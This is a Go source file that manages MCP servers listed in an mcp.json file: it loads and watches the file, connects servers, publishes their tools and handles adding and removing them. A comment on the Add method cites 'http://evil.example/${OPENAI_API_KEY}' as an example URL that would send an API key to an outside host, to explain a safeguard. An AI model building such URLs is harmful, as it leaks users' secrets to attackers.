package remote

import (
	"cmp"
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"slices"
	"sync"
	"sync/atomic"
	"time"

	"github.com/rs/zerolog"

	"toolnorm/internal/fault"
	"toolnorm/tools"
)

// Config sets up a Set. Path and Registry are needed; the zero value of the rest will do.
type Config struct {
	Path     string          // of mcp.json
	Registry *tools.Registry // gets the servers' tools
	Version  string          // of this program, which the servers are told
	Accounts string          // file with the user's sign-ins; empty: requests are not signed
	Log      zerolog.Logger

	CallTime time.Duration // of one call; 0: 30 s
	// how long a request waits for a server that does not list its tools; 0: 5 s
	ListTime time.Duration

	// Private reports whether the caller may add a server at a private or loopback address while
	// the program runs; If it is nil, no caller may.
	Private func(context.Context) bool
}

// Set is the set of registered MCP servers. It is safe for concurrent use. The file decides: every
// change is written into it first and then read from there, so that a restart changes nothing.
type Set struct {
	cfg     Config
	ctx     context.Context
	end     context.CancelFunc
	running sync.WaitGroup

	mu     sync.Mutex
	links  map[string]*link // those that are not disabled
	file   *file
	stamp  stamp // of the file when it was read or written last
	broken error // why the present file cannot be read; the last valid content is then kept

	relayMu sync.Mutex
	relays  map[relayKey]*relay
	visits  visits
	levels  map[string]json.RawMessage // what sessions have said of log lines, as they said it
	places  directory
	tell    atomic.Pointer[func(method string)]
}

// stamp tells one state of a file from another. Two edits of the same size within the clock's step
// look alike; people do not edit that fast.
type stamp struct {
	at   time.Time
	size int64
}

// watchTime is how often the file is looked at. A look is one stat, so no file events are needed,
// which differ by system and miss files that are replaced.
const watchTime = 2 * time.Second

// Open reads mcp.json and begins to connect. What cannot be used, one server or the whole file, is
// left out, logged and listed (List), and read again when the file changes; it keeps nothing else
// from working. Close the Set when it is no longer needed. It does not wait for the servers: their
// tools come when they answer.
func Open(cfg Config) *Set {
	cfg.CallTime = cmp.Or(cfg.CallTime, callTime)
	cfg.ListTime = cmp.Or(cfg.ListTime, 5*time.Second)
	s := &Set{cfg: cfg, links: map[string]*link{}}
	s.ctx, s.end = context.WithCancel(context.Background())
	s.mu.Lock()
	defer s.mu.Unlock()
	f, err := load(cfg.Path)
	switch {
	// A read-only disk is no reason not to serve models.
	case errors.Is(err, errNoPlace):
		cfg.Log.Warn().Err(err).Msg("MCP servers cannot be added")
	case err != nil:
		f = &file{}
		cfg.Log.Error().Err(err).Msg(
			"mcp.json cannot be read; none of its MCP servers is used until it is put right")
		s.broken = err
	}
	s.take(f)
	level := zerolog.InfoLevel
	if len(f.servers) == 0 { // most people have none, and read the lines of a start
		level = zerolog.DebugLevel
	}
	cfg.Log.WithLevel(level).Str("file", cfg.Path).Msgf("Loaded %d MCP servers from mcp.json",
		len(s.links))
	s.running.Go(s.watch) // ends with Close
	return s
}

// Close ends all connections and commands, and waits until they have ended, which takes some
// seconds for a command that does not end by itself.
func (s *Set) Close() {
	s.end()
	s.running.Wait()
}

// take makes the servers those of a file. s.mu is held. A server whose entry is the same keeps its
// connection, so that an edit of one does not end the calls of the others.
func (s *Set) take(f *file) {
	said := map[string]string{} // what was left out before
	if s.file != nil {
		for i, w := range s.file.servers {
			if w.err != nil {
				said[w.shown(i)] = w.err.Error()
			}
		}
	}
	s.file, s.stamp = f, stampOf(s.cfg.Path)
	wanted := map[string]bool{}
	var sources []string
	for i, w := range f.servers {
		e := w.entry
		if w.err != nil && said[w.shown(i)] != w.err.Error() {
			s.cfg.Log.Error().Str("mcp_server", w.shown(i)).Err(w.err).Msg(
				"a server of mcp.json is left out until its entry is put right")
		}
		if w.err != nil || e.Disabled {
			continue
		}
		wanted[e.Name] = true
		sources = append(sources, source(e.Name))
		s.connect(w)
	}
	for name, l := range s.links {
		if !wanted[name] {
			s.forget(l)
		}
	}
	// The order is the file's, not that of the answers. Tools of removed servers are removed as
	// well.
	s.cfg.Registry.Expect(sources...)
}

// connect begins to keep a server of the file connected, unless that is done already. s.mu is held.
func (s *Set) connect(w written) {
	e := w.entry
	old := s.links[e.Name]
	// It may be in the middle of a call.
	if old != nil && old.entry.same(e) {
		return
	}
	if old != nil {
		old.withdraw()
	}
	if w.key != e.Name {
		s.cfg.Log.Info().Str("mcp_server", e.Name).Str("written", w.key).Msg(
			"a server of mcp.json has another name here")
	}
	if e.Command != "" {
		// The whole command is in the log before it runs: the file is its own approval, and this is
		// where people can look.
		s.cfg.Log.Info().Str("mcp_server", e.Name).Str("command", e.Command).Strs("args",
			e.Args).Msg("starting the command that mcp.json names")
	}
	// It connects in a goroutine of its own; s.mu is not held while it does.
	s.links[e.Name] = newLink(s, e)
}

// forget ends a link. s.mu is held. Its tools are removed with its place in the registry, so that
// clients at /mcp are notified at once.
func (s *Set) forget(l *link) {
	l.end()
	delete(s.links, l.entry.Name)
}

// withdraw ends a link whose server stays in the file, and removes its tools. The set's mu is held.
func (l *link) withdraw() {
	l.set.forget(l)
	_ = l.set.cfg.Registry.Set(source(l.entry.Name)) // setting no tools cannot fail
}

// source returns the registry's name for a server's tools: all tools of one source are replaced
// together, and no others.
func source(name string) string { return "mcp server " + name }

// Settle waits until every server has answered or failed once, no longer than Config.ListTime since
// it was registered. It is for clients that ask for the tools once and at once.
func (s *Set) Settle(ctx context.Context) { s.Collect(ctx, s.Names()) }

// publish gives a server's tools to the registry, unless the server has been removed meanwhile: a
// list that comes late would otherwise bring back tools that no server has any more. A tool whose
// name another source has is left out, but no other tool is.
func (s *Set) publish(l *link, all []tools.Tool) (taken []string, err error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	// The name may belong to another link by now, if it was removed and added again.
	if s.links[l.entry.Name] != l {
		return nil, errRemoved
	}
	name := source(l.entry.Name)
	for range 3 { // another source may take a name between the look and the change
		taken = nil
		free := slices.DeleteFunc(slices.Clone(all), func(t tools.Tool) bool {
			other := s.cfg.Registry.Snapshot().Source(t.Name)
			if other == "" || other == name {
				return false
			}
			taken = append(taken, t.Name)
			return true
		})
		if err = s.cfg.Registry.Set(name, free...); err == nil {
			break
		}
	}
	return taken, err
}

// errRemoved ends what was under way for a server that has been removed.
var errRemoved = errors.New("the server has been removed")

// change makes a change to the file as it is now, saves it, and takes it. A broken file is left
// alone; a removed file is written again, with its last content. It starts from the file and not
// from memory: an edit of the last two seconds, which watch has not seen yet, must not be lost.
func (s *Set) change(do func(f *file) error) error {
	s.mu.Lock()
	defer s.mu.Unlock()
	f, err := s.fresh()
	if err != nil {
		return fault.New(fault.Unable, "mcp.json cannot be read, so nothing is changed in it: %w",
			err)
	}
	if err := do(f); err != nil {
		return err
	}
	if err := f.save(s.cfg.Path); err != nil {
		return fault.New(fault.Unable, "mcp.json cannot be written: %w", err)
	}
	if f.commented {
		s.cfg.Log.Warn().Str("file", s.cfg.Path+".bak").Msg(
			"mcp.json had comments, which a change by request cannot keep; the file as it was is kept")
		f.commented = false
	}
	s.take(f)
	s.broken = nil
	return nil
}

// fresh reads the file again, for a change. It returns a copy even when the file is gone, so that a
// change that cannot be saved leaves nothing in memory.
func (s *Set) fresh() (*file, error) {
	if stampOf(s.cfg.Path) != (stamp{}) {
		return load(s.cfg.Path)
	}
	text, err := s.file.encode()
	if err != nil {
		return nil, err
	}
	return parse(text)
}

// Add registers a server by its URL; one of that name gets the new URL. It cannot be a command, and
// nothing of the environment is put into what comes from outside:
// http://evil.example/${OPENAI_API_KEY} would send a key there. The error is fault.Invalid for a
// name or URL that cannot be, and fault.Unable when the file cannot be changed.
func (s *Set) Add(ctx context.Context, a Asked) error {
	e := Entry{Name: a.Name, URL: a.URL, Headers: a.Headers, Include: a.Include, Exclude: a.Exclude}
	// It is written into the file, so that it still holds after a restart.
	if s.cfg.Private == nil || !s.cfg.Private(ctx) {
		no := false
		e.Private = &no
	}
	if err := a.check(); err != nil {
		return err
	}
	if err := e.check(); err != nil {
		return fault.New(fault.Invalid, "server %q: %s", a.Name, err)
	}
	if err := e.resolves(ctx); err != nil {
		return fault.New(fault.Invalid, "%s", err)
	}
	return s.change(func(f *file) error { return f.put(e) })
}

// Remove removes a server, and reports whether it was there. Its tools are gone when Remove
// returns; calls that run end with the connection.
func (s *Set) Remove(name string) (found bool, err error) {
	err = s.change(func(f *file) error {
		if found = f.drop(name); !found {
			return errNone
		}
		return nil
	})
	if errors.Is(err, errNone) {
		err = nil
	}
	return found, err
}

// errNone says that no server in use has that name: for Collect a disabled server does not count.
var errNone = errors.New("there is no such server")

// Names returns the names of the servers in use, in the file's order: it is the order in which the
// agent offers their tools.
func (s *Set) Names() []string {
	s.mu.Lock()
	defer s.mu.Unlock()
	var names []string
	for _, w := range s.file.servers {
		if w.err == nil && s.links[w.entry.Name] != nil {
			names = append(names, w.entry.Name)
		}
	}
	return names
}

// Collect returns the tools of servers, each asked at the same time as the others. It waits for a
// server that has just been registered or lost, for no longer than Config.ListTime in all, however
// many requests come meanwhile. A server that is known to be down is left out at once, and tried
// again in the background. down has the servers that do not answer, with the reasons.
func (s *Set) Collect(ctx context.Context, names []string) (
	all []tools.Tool, down map[string]string) {
	ctx, cancel := context.WithTimeout(ctx, s.cfg.ListTime)
	defer cancel()
	type answer struct {
		tools []tools.Tool
		err   error
	}
	// By place and not by a channel: the tools must come in the order of the names, whichever
	// server answers first.
	answers := make([]answer, len(names))
	var wait sync.WaitGroup
	for i, name := range names {
		s.mu.Lock()
		l := s.links[name]
		s.mu.Unlock()
		if l == nil {
			answers[i].err = errNone
			continue
		}
		wait.Go(func() { answers[i].tools, answers[i].err = l.current(ctx) })
	}
	wait.Wait()
	down = map[string]string{}
	for i, a := range answers {
		switch {
		// A deadline alone would read "context deadline exceeded" in the caller's warnings.
		case errors.Is(a.err, context.DeadlineExceeded):
			down[names[i]] = fmt.Sprintf("no answer within %v", s.cfg.ListTime)
		case a.err != nil:
			down[names[i]] = reason(a.err)
		}
		all = append(all, a.tools...)
	}
	return slices.Clip(all), down
}
